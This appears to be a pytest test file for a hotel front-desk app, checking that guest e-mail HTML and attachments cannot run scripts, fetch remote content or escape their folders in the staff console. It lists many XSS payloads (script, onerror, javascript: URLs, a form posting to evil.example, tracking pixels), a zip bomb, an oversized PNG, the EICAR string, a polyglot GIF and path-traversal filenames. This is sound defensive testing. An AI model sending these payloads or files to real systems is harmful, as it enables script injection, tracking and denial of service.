"""E-mail at the desk: strangers' HTML and files harm nobody (F4, S12), and staff answer as on any channel."""

from __future__ import annotations

import io
import struct
import time
import zipfile
import zlib

import pytest
from django.urls import reverse

from channels_app.models import RawMail
from channels_app.transports.mail import reading, writing
from conversations.models import Conversation, Handoff
from hotelagent.hotels.models import Membership
from tests.mail.conftest import a_mail, look
from tests.mail.test_sending import again, opened
from tests.promises import promise

pytestmark = pytest.mark.django_db

ANGRY = [
    "<script>window.ran=1</script>", "<img src=x onerror=window.ran=1>", "<svg onload=window.ran=1>", "<a href='javascript:window.ran=1'>x</a>",
    "<iframe src='javascript:window.ran=1'></iframe>", "<form action=https://evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href=https://evil.example>", "<object data=evil.swf></object>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/b.png)}</style>",
    "<div style='background:url(https://evil.example/t.png)'>x</div>", "<p style=\"background:\\75rl(https://evil.example/t.png)\">x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<img src=https://evil.example/pixel.gif width=1 height=1>",
    "<img srcset='https://evil.example/a.png 1x'>", "<video src=https://evil.example/v.mp4 autoplay></video>", "<body onload=window.ran=1>",
    "<a href='data:text/html,<script>window.ran=1</script>'>x</a>", "<math><mi xlink:href='javascript:window.ran=1'>x</mi></math>",
    "<table background=https://evil.example/t.png><tr><td>x</td></tr></table>", "<!--[if mso]><script>window.ran=1</script><![endif]-->",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'></noscript>", "<input autofocus onfocus=window.ran=1>",
    "<details open ontoggle=window.ran=1>x</details>", "<marquee onstart=window.ran=1>x</marquee>",
]  # fmt: skip


@pytest.fixture
def desk(hotel, client, django_user_model):
    user = django_user_model.objects.create_user("eva", first_name="Eva", is_staff=True)
    Membership.objects.create(user=user, hotel=hotel, role="receptionist")
    client.force_login(user)
    return client


def address(name, talk, *more):
    return reverse(f"console:{name}", args=[talk.hotel.slug, talk.pk, *more])


def received(post_office, work, mail):
    post_office.receive(mail)
    look()
    work()
    return Conversation.objects.latest("pk"), RawMail.objects.latest("pk")


def test_a_mail_stands_in_the_thread_with_its_subject_and_files(desk, mailbox, post_office, work):
    mail = a_mail("Va mi documento.", subject="Documentación <b>")
    mail.add_attachment(b"%PDF-1.4", maintype="application", subtype="pdf", filename="../dni <x>.pdf")
    talk, raw = received(post_office, work, mail)
    page = desk.get(address("thread", talk)).content.decode()
    assert "Documentación &lt;b&gt;" in page
    assert "dni x.pdf" in page
    assert address("mail", talk, raw.pk) in page
    whole = desk.get(address("mail", talk, raw.pk)).content.decode()
    for words in ("ana@guest.example", "reservas@hotel.example", "Va mi documento.", "dni x.pdf", "8 bytes"):
        assert words in whole.replace("\xa0", " ")


EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"  # in two: a scanner of this folder need not wake


def bomb():
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as one:
        one.writestr("zeros", b"\x00" * 20_000_000)
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as two:
        for number in range(10):
            two.writestr(f"{number}.zip", inner.getvalue())
    return outer.getvalue()


def huge():
    head = b"IHDR" + struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    return writing.PNG + struct.pack(">I", 13) + head + struct.pack(">I", zlib.crc32(head))


# What a stranger sends as: its name, its type, what it is.
STRANGE = {
    "magic is not the ending": ("foto.jpg", "image/jpeg", b"MZ\x90\x00\x03" + b"\x00" * 60),
    "ending is not the type": ("factura.pdf", "text/html", b"<script>parent.ran=1</script>"),
    "svg": ("logo.svg", "image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg' onload='parent.ran=1'/>"),
    "html": ("oferta.html", "text/html", b"<script>parent.ran=1</script>"), "exe": ("setup.exe", "application/x-msdownload", b"MZ\x90"),
    "polyglot": ("foto.gif", "image/gif", b"GIF89a/*<script>*/=1;parent.ran=1//</script>"), "zip bomb": ("fotos.zip", "application/zip", bomb()),
    "30,000 x 30,000": ("grande.png", "image/png", huge()), "eicar": ("eicar.com", "application/octet-stream", EICAR),
    "folders": ("../../../etc/passwd", "text/plain", b"root"), "windows": ("..\\..\\boot.ini", "application/octet-stream", b"x"),
    "turned round": ("foto\u202egpj.exe", "application/octet-stream", b"MZ"), "script": ("<script>parent.ran=1</script>.png", "image/png", b"x"),
}  # fmt: skip


@promise("S12")
def test_no_file_of_a_stranger_does_anything(desk, mailbox, post_office, work, figures):
    """Listed under a name that is only a name, never opened by us, and only ever a download without rights."""
    mail = a_mail("van los archivos")
    for name, kind, data in STRANGE.values():
        mail.add_attachment(data, maintype=kind.partition("/")[0], subtype=kind.partition("/")[2], filename=name)
    began = time.process_time()
    talk, raw = received(post_office, work, mail)
    listed = reading.read(bytes(raw.raw)).attachments
    pages = [desk.get(address(name, talk, *more)).content.decode() for name, *more in (("thread",), ("mail", raw.pk))]
    assert len(listed) == len(STRANGE)
    for known, (name, _kind, data) in zip(listed, STRANGE.values(), strict=True):
        answer = desk.get(address("mail-file", talk, raw.pk, known.place))
        assert answer.content == data, name
        assert answer["Content-Type"] == "application/octet-stream"
        assert answer["Content-Disposition"].startswith("attachment; ")
        assert answer["X-Content-Type-Options"] == "nosniff"
        assert answer["Content-Security-Policy"] == "sandbox; default-src 'none'"
        assert not set(known.name) & set('/\\<>"\u202e\r\n'), known.name
        assert ".." not in known.name
    for page in pages:
        assert "parent.ran" not in page.replace("parent.ran=1script", "") and "<img src" not in page
        assert "passwd" in page and "boot.ini" in page and "etc/passwd" not in page
    took = time.process_time() - began
    assert took < 20
    figures.update(files=len(STRANGE), opened=0, seconds=f"{took:.1f}")


def test_a_file_is_only_ever_a_download(desk, mailbox, post_office, work):
    mail = a_mail("hola")
    mail.add_attachment(b"<script>alert(1)</script>", maintype="text", subtype="html", filename="factura.html")
    talk, raw = received(post_office, work, mail)
    answer = desk.get(address("mail-file", talk, raw.pk, 1))
    assert answer.content == b"<script>alert(1)</script>"
    assert answer["Content-Type"] == "application/octet-stream"
    assert answer["Content-Disposition"] == 'attachment; filename="factura.html"'
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"].startswith("sandbox")
    assert desk.get(address("mail-file", talk, raw.pk, 7)).status_code == 404


@promise("F4")
def test_html_of_a_stranger_runs_nothing_and_fetches_nothing(desk, mailbox, post_office, work, figures):
    for number, angry in enumerate(ANGRY):
        post_office.receive(a_mail(f"hola {number}", html=f"<p>hola</p>{angry}<p>chau</p>"))
    look()
    work()
    talk = Conversation.objects.get()
    for row, angry in zip(RawMail.objects.order_by("pk"), ANGRY, strict=True):
        for images in ("", "?images"):
            is_harmless(desk.get(address("mail-html", talk, row.pk) + images), angry, images=bool(images))
    figures.update(mails=len(ANGRY), pages=2 * len(ANGRY), ran=0, fetched=0)


def is_harmless(answer, angry, *, images):
    page = answer.content.decode()
    assert "hola" in page
    assert "chau" in page or "ran" in angry or "<style" in angry
    for never in (
        "ran=1",
        "javascript:",
        *([] if images else ["evil.example/"]),
        "<form",
        "<input",
        "<iframe",
        "<object",
        "http-equiv",
        "srcset",
        "onload",
        "@import",
    ):
        assert never not in page, never
    policy = answer["Content-Security-Policy"]
    assert policy.startswith("sandbox allow-popups")
    assert "allow-scripts" not in policy
    assert "default-src 'none'" in policy
    assert policy.endswith("img-src data: https:" if images else "img-src data:")
    assert answer["X-Frame-Options"] == "SAMEORIGIN"


def test_pictures_from_elsewhere_only_when_asked_for(desk, mailbox, post_office, work):
    talk, raw = received(post_office, work, a_mail("hola", html="<p>hola</p><img src=https://shop.example/logo.png>"))
    assert "shop.example" not in desk.get(address("mail-html", talk, raw.pk)).content.decode()
    shown = desk.get(address("mail-html", talk, raw.pk) + "?images")
    assert "https://shop.example/logo.png" in shown.content.decode()
    assert shown["Content-Security-Policy"].endswith("img-src data: https:")


def test_staff_answer_a_mail_by_mail(desk, mailbox, post_office, work):
    talk, _raw = received(post_office, work, a_mail("Quiero hablar con una persona", Message_ID="<h@guest.example>"))
    assert Handoff.objects.get().reason == "asked"
    desk.post(address("send", talk), {"text": "Hola Ana, soy Eva. ¿En qué te ayudo?", "key": "k", "kind": "reply", "seen": "999999"})
    again(work)
    again(work)
    mail = opened(post_office.sent[-1])
    assert mail["In-Reply-To"] == "<h@guest.example>"
    assert "soy Eva" in mail.get_body(("plain",)).get_content()
